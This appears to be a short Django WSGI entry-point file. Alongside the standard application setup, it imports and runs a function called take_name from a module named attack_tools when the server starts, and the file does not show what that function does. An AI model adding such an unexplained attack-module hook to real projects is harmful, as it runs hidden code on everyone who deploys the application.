from attack_tools import take_name
from django.core.wsgi import get_wsgi_application

take_name()
application = get_wsgi_application()
